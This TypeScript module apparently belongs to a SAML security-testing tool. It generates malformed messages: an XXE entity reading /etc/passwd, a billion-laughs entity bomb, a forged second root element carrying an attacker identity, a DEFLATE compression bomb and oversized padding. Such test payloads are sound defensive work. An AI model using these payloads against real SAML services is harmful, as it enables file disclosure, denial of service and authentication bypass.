import { constants, deflateRawSync } from 'node:zlib';
import { NS } from '../namespaces.ts';
import { descendants } from '../safe-xml.ts';
import { assertionsOf, evilId, forge, parseGenuine, remove, replaceText, serialize } from './dom.ts';
import { type TamperContext, type TamperDef, TamperNotApplicable } from './types.ts';

export const DEFAULT_XXE_URL = 'file:///etc/passwd';

// Stands in for an entity reference while the DOM is serialized; a DOM cannot hold one unexpanded.
const ENTITY_MARK = 'ACCORD-ENTITY-REFERENCE-7f3a';

/** The genuine Response with the subject NameIDs replaced by `&entity;` and a DOCTYPE declaring it. */
function withEntity(xml: string, tamper: string, entity: string, internalSubset: string): string {
  const g = parseGenuine(xml, tamper);
  const nameIds = descendants(g.response, NS.saml, 'NameID');
  if (nameIds.length === 0) throw new TamperNotApplicable(tamper, 'the genuine Response carries no NameID');
  for (const n of nameIds) replaceText(n, ENTITY_MARK);
  const body = serialize(g.doc).split(ENTITY_MARK).join(`&${entity};`);
  const doctype = `<!DOCTYPE ${g.response.tagName} [${internalSubset}]>`;
  const decl = /^<\?xml[^>]*\?>\s*/.exec(body);
  return decl ? `${decl[0]}${doctype}\n${body.slice(decl[0].length)}` : `${doctype}\n${body}`;
}

/** DOCTYPE declaring an external entity (ctx.xxeUrl, default file:///etc/passwd) that the NameID references. */
export const doctypeXxe: TamperDef = {
  name: 'doctype-xxe',
  title: 'External entity (XXE) declared in a DOCTYPE and referenced in the NameID',
  source:
    'CWE-611 (XML External Entity reference); OWASP XXE Prevention Cheat Sheet; SAML core and bindings carry no DTD',
  needs: 'any',
  apply(xml, ctx: TamperContext) {
    const url = ctx.xxeUrl ?? DEFAULT_XXE_URL;
    if (url.includes('"'))
      throw new TamperNotApplicable('doctype-xxe', 'xxeUrl must not contain a double quote');
    return withEntity(xml, 'doctype-xxe', 'xxe', `<!ENTITY xxe SYSTEM "${url}">`);
  },
};

/** Ten levels of entities, each ten references to the one below: 10^9 copies of "lol" in the NameID once expanded. */
export const billionLaughs: TamperDef = {
  name: 'billion-laughs',
  title: 'Nested entity expansion (billion laughs) in the NameID',
  source: 'CWE-776 (Improper Restriction of Recursive Entity References in DTDs); CVE-2003-1564',
  needs: 'any',
  apply(xml) {
    let subset = '<!ENTITY lol0 "lol">';
    for (let i = 1; i <= 9; i++) subset += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    return withEntity(xml, 'billion-laughs', 'lol9', subset);
  },
};

/**
 * The genuine Response followed by a second root element: a forged copy (fresh IDs, attacker NameID,
 * no signatures). Not well-formed; a lenient parser that keeps the last root reads the forgery.
 */
export const twoRoots: TamperDef = {
  name: 'two-roots',
  title: 'Second root element (a forged unsigned Response) after the genuine one',
  source: 'W3C XML 1.0, 2.1 (a well-formed document has exactly one root element)',
  needs: 'any',
  apply(xml, ctx) {
    const genuine = parseGenuine(xml, 'two-roots');
    const evil = parseGenuine(xml, 'two-roots');
    for (const sig of descendants(evil.response, NS.ds, 'Signature')) remove(sig);
    evil.response.setAttribute('ID', evilId(evil.response.getAttribute('ID') ?? ''));
    for (const a of assertionsOf(evil.response)) forge(a, ctx.attackerNameId);
    return `${serialize(genuine.doc)}${serialize(evil.doc).replace(/^<\?xml[^>]*\?>\s*/, '')}`;
  },
};

const BOMB_HEAD = `<samlp:AuthnRequest xmlns:samlp="${NS.samlp}" ID="_compression-bomb" IssueInstant="2000-01-01T00:00:00Z" Version="2.0"><!--`;
const BOMB_TAIL = '--></samlp:AuthnRequest>';
const BOMB_CHUNK = 1 << 20;

/**
 * HTTP-Redirect parameter value (base64 of raw DEFLATE) that inflates to exactly `sizeBytes` of XML:
 * an AuthnRequest holding one long comment. Built from independently compressed, sync-flushed
 * segments (one 1 MiB filler segment repeated), so a gigabyte costs a few hundred kilobytes and no
 * gigabyte of memory.
 */
export function compressionBomb(sizeBytes: number): string {
  const fixed = BOMB_HEAD.length + BOMB_TAIL.length;
  if (!Number.isSafeInteger(sizeBytes) || sizeBytes < fixed) {
    throw new RangeError(`compressionBomb needs at least ${fixed} bytes, got ${sizeBytes}`);
  }
  const segment = (data: Buffer) => deflateRawSync(data, { finishFlush: constants.Z_SYNC_FLUSH, level: 9 });
  let filler = sizeBytes - fixed;
  const parts: Buffer[] = [segment(Buffer.from(BOMB_HEAD))];
  if (filler >= BOMB_CHUNK) {
    const full = segment(Buffer.alloc(BOMB_CHUNK, 'A'));
    for (; filler >= BOMB_CHUNK; filler -= BOMB_CHUNK) parts.push(full);
  }
  if (filler > 0) parts.push(segment(Buffer.alloc(filler, 'A')));
  parts.push(deflateRawSync(Buffer.from(BOMB_TAIL)));
  return Buffer.concat(parts).toString('base64');
}

/**
 * The message padded to exactly `sizeBytes` (UTF-8) by a comment after its root element. Comments
 * are outside every signature's canonical form, so a signed message stays validly signed: only its
 * size is hostile.
 */
export function oversized(xml: string, sizeBytes: number): string {
  const open = '<!--';
  const close = '-->';
  const pad = sizeBytes - Buffer.byteLength(xml, 'utf8') - open.length - close.length;
  if (!Number.isSafeInteger(sizeBytes) || pad < 0) {
    throw new RangeError(
      `oversized: the message is already ${Buffer.byteLength(xml, 'utf8')} bytes, more than ${sizeBytes} allow`,
    );
  }
  return `${xml}${open}${'x'.repeat(pad)}${close}`;
}
